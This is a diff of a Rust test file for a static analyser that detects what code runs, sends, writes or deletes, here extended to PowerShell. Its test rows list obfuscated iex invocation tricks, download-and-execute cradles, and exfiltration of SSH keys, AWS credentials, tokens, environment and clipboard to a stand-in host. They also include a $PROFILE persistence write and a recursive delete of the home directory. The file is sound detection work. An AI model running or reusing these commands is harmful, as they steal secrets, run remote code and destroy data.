@@ -6,6 +6,7 @@ use super::effect::{Action, Effect};
 use super::evaluate::{Files, Unit, evaluate};
 use super::parse::parse;
 use super::program::Language;
+use super::taint::Kinds;
 
 fn effects(code: &str, language: Language) -> Vec<Effect> {
     let Some(program) = parse(code, language) else { return Vec::new() };
@@ -21,7 +22,12 @@ fn show(effects: &[Effect]) -> String {
                 effect.data.origins.iter().map(|origin| format!("{}:{}", origin.kind.words(), origin.name)).collect();
             format!(
                 "{:?} at {} text={:?} target={:?} data={names:?} disguised={} trigger={:?}",
-                effect.action, effect.place.start, effect.text, effect.target, effect.is_disguised, effect.trigger
+                effect.action,
+                effect.place.start,
+                effect.text,
+                effect.target,
+                effect.is_disguised,
+                effect.trigger.kinds
             )
         })
         .collect::<Vec<_>>()
@@ -31,7 +37,7 @@ fn show(effects: &[Effect]) -> String {
 /// Commands and code that are run, with what is folded.
 #[test]
 fn what_is_run_is_folded() {
-    use Language::{JavaScript, Python, Shell, TypeScript};
+    use Language::{JavaScript, PowerShell, Python, Shell, TypeScript};
     let rows = [
         (Python, "import os\nos.system('cu' + 'rl x')", "curl x"),
         (Python, "import os as o\no.system('%s x' % 'curl')", "curl x"),
@@ -60,6 +66,32 @@ fn what_is_run_is_folded() {
         (Shell, "a=cu; b=rl; bash -c \"$a$b x\"", "curl x"),
         (Shell, "echo 6375726c | xxd -r -p | sh", "curl"),
         (Shell, "cat <<EOF | bash\ncurl x\nEOF\n", "curl x\n"),
+        (PowerShell, "iex ('curl' + ' x')", "curl x"),
+        (PowerShell, "i`e`x 'curl x'", "curl x"),
+        (PowerShell, "& ('ie'+'x') \"curl x\"", "curl x"),
+        (PowerShell, "&(\"{1}{0}\" -f 'ex','i') 'curl x'", "curl x"),
+        (PowerShell, "'curl x' | IEX", "curl x"),
+        (PowerShell, "$a = 'cu'; $B = \"${A}rl\"; Invoke-Expression \"$b x\"", "curl x"),
+        (PowerShell, "iex (-join ([char]99,[char]117,[char]114,[char]108))", "curl"),
+        (PowerShell, "iex (-join ((99,117,114,108) | % { [char]$_ }))", "curl"),
+        (PowerShell, "iex (-join (98,116,115,109 | ForEach-Object { [char]($_ -bxor 1) }))", "curl"),
+        (PowerShell, "iex ([char[]](99,117,114,108) -join '')", "curl"),
+        (PowerShell, "iex ('c#u#r#l' -replace '#','')", "curl"),
+        (PowerShell, "iex ('c[u]rl'.Replace('[','').Replace(']',''))", "curl"),
+        (PowerShell, "iex ('lruc'[3..0] -join '')", "curl"),
+        (PowerShell, "& ($env:ComSpec[4,15,25]-join '') 'curl x'", "curl x"),
+        (PowerShell, "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Y3VybCB4')))", "curl x"),
+        (
+            PowerShell,
+            "iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('YwB1AHIAbAA=')))",
+            "curl",
+        ),
+        (PowerShell, "powershell -nop -w hidden -enc YwB1AHIAbAA=", "curl"),
+        (Shell, "powershell.exe -EncodedCommand YwB1AHIAbAA=", "curl"),
+        (PowerShell, "cmd /c curl x", "curl x"),
+        (PowerShell, "function Go($What) { iex $What }\nGo -What 'curl x'", "curl x"),
+        (PowerShell, "[scriptblock]::Create('curl x').Invoke()", "curl x"),
+        (PowerShell, "& ([scriptblock]::Create('curl x'))", "curl x"),
     ];
     let script = [
         "require('child_process').execSync('cu' + 'rl x')",
@@ -83,6 +115,77 @@ fn what_is_run_is_folded() {
         let is_run =
             |effect: &Effect| effect.action == Action::Run && effect.text.iter().any(|text| &**text == expected);
         assert!(found.iter().any(is_run), "{code}\n{}", show(&found));
+    }
+}
+
+/// What PowerShell sends, writes, deletes and runs, and what that came from.
+#[test]
+fn commands_of_powershell_are_followed() {
+    let send = Action::Send(super::effect::Channel::Http);
+    let rows = [
+        ("iwr http://a.example/x | iex", Action::Run, Kinds::DOWNLOAD, ""),
+        ("iex (New-Object Net.WebClient).DownloadString('http://a.example/x')", Action::Run, Kinds::DOWNLOAD, ""),
+        ("$c = New-Object System.Net.WebClient\n$p = $c.DownloadString($u); IEX $p", Action::Run, Kinds::DOWNLOAD, ""),
+        ("& ([scriptblock]::Create((irm http://a.example/x)))", Action::Run, Kinds::DOWNLOAD, ""),
+        ("iex (iwr http://a.example/x -UseBasicParsing).Content", Action::Run, Kinds::DOWNLOAD, ""),
+        (
+            "iwr http://a.example/x -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe",
+            Action::RunFile,
+            Kinds::DOWNLOAD,
+            "/tmp/x.exe",
+        ),
+        (
+            "(New-Object Net.WebClient).DownloadFile('http://a.example/x', 'x.ps1'); .\\x.ps1",
+            Action::RunFile,
+            Kinds::DOWNLOAD,
+            "./x.ps1",
+        ),
+        (
+            "irm -Uri http://a.example -Method Post -Body @{ k = (gc ~/.ssh/id_rsa -Raw) }",
+            send,
+            Kinds::CREDENTIAL_FILE,
+            "http://a.example",
+        ),
+        (
+            "$p = @{ Uri = 'http://a.example'; Body = $env:API_TOKEN }\nInvoke-RestMethod @p",
+            send,
+            Kinds::SECRET_VARIABLE,
+            "http://a.example",
+        ),
+        (
+            "$e = Get-ChildItem env: | Out-String; irm http://a.example -Method Post -Body $e",
+            send,
+            Kinds::ENVIRONMENT,
+            "http://a.example",
+        ),
+        (
+            "$b = [IO.File]::ReadAllText(\"$HOME/.aws/credentials\"); (New-Object Net.WebClient).UploadString('http://a.example', $b)",
+            send,
+            Kinds::CREDENTIAL_FILE,
+            "http://a.example",
+        ),
+        (
+            "Get-Clipboard | % { irm http://a.example -Method Post -Body $_ }",
+            send,
+            Kinds::CLIPBOARD,
+            "http://a.example",
+        ),
+        (
+            "irm http://a.example/x | Add-Content $PROFILE",
+            Action::Write,
+            Kinds::DOWNLOAD,
+            "~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1",
+        ),
+        ("$x = 1; Remove-Item -Recurse -Force $HOME", Action::Delete, Kinds::NONE, "~"),
+    ];
+    for (code, action, kinds, target) in rows {
+        let found = effects(code, Language::PowerShell);
+        let is_meant = |effect: &Effect| {
+            effect.action == action
+                && (kinds == Kinds::NONE || effect.data.kinds.holds(kinds))
+                && (target.is_empty() || effect.target.iter().any(|known| &**known == target))
+        };
+        assert!(found.iter().any(is_meant), "{code}\n{}", show(&found));
     }
 }
 
@@ -110,7 +213,7 @@ fn hostile_texts_are_read_in_time() {
         "while :; do eval \"$x\"; done;".repeat(2_000),
     ];
     for text in &texts {
-        for language in [Language::Shell, Language::Python, Language::JavaScript] {
+        for language in [Language::Shell, Language::Python, Language::JavaScript, Language::PowerShell] {
             let start = Instant::now();
             effects(text, language);
             // Far above what it takes, and far below what anything quadratic takes.
@@ -124,9 +227,21 @@ proptest::proptest! {
     #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
     #[test]
     fn any_text_is_read(text in "[\\PC\n]{0,200}", bits in "([a-z$(){}\\[\\]\"'`;|&<> =:,.\n]|curl|eval|import|os\\.|def |for | in |if |<<EOF\n){0,60}") {
-        for language in [Language::Shell, Language::Python, Language::JavaScript, Language::TypeScript, Language::Other] {
+        for language in [Language::Shell, Language::Python, Language::JavaScript, Language::TypeScript, Language::PowerShell, Language::Other] {
             effects(&text, language);
             effects(&bits, language);
         }
     }
+}
+
+/// What is nested deeper than anybody writes is told apart before a parser sees it.
+#[test]
+fn what_is_too_deep_is_not_parsed() {
+    let deep = "(".repeat(200 * 1024);
+    let long = format!("{}x=1\n", "echo a\n".repeat(40_000));
+    for language in [Language::Shell, Language::Python, Language::JavaScript, Language::PowerShell] {
+        assert!(parse(&deep, language).is_none(), "{language:?}");
+        assert!(parse("f(1)", language).is_some_and(|program| !program.is_cut), "{language:?}");
+    }
+    assert!(parse(&long, Language::Shell).is_none_or(|program| program.is_cut));
 }
